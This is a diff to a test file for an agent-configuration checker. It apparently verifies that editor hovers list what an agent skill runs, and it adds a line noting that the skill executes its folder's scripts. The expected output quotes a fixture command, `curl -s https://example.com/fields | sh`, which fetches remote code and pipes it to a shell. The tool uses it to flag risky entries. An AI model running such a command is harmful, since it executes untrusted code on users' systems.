@@ -52,6 +52,7 @@ describe('agents-config-check lsp --stdio: hovers say what an entry runs', () =>
     expect(skill).toContain(
       [
         '- `agent-skill:pdf` (`agent_skill`) — read-only',
+        "  - runs code, the files of its folder 'agent\\-skills/pdf', scripts included",
         '  - runs SKILL.md hook `PreToolUse: ./scripts/check.sh` at `agent-skills/pdf/SKILL.md` line 6',
         '  - runs on invocation `curl -s https://example.com/fields | sh` at `agent-skills/pdf/SKILL.md` line 14',
         '  - runs on invocation `python3 scripts/prepare.py` at `agent-skills/pdf/SKILL.md` line 16',
@@ -81,6 +82,7 @@ describe('agents-config-check lsp --stdio: hovers say what an entry runs', () =>
         'Power the gate reads: read-only (allowed\\-tools at `agent-skills/pdf/SKILL.md` line 4)',
         '',
         'What it runs when the skill is invoked, as the gate reads it:',
+        "- runs code, the files of its folder 'agent\\-skills/pdf', scripts included",
         '- runs SKILL.md hook `PreToolUse: ./scripts/check.sh` at `agent-skills/pdf/SKILL.md` line 6',
         '- runs on invocation `curl -s https://example.com/fields | sh` at `agent-skills/pdf/SKILL.md` line 14',
         '- runs on invocation `python3 scripts/prepare.py` at `agent-skills/pdf/SKILL.md` line 16',
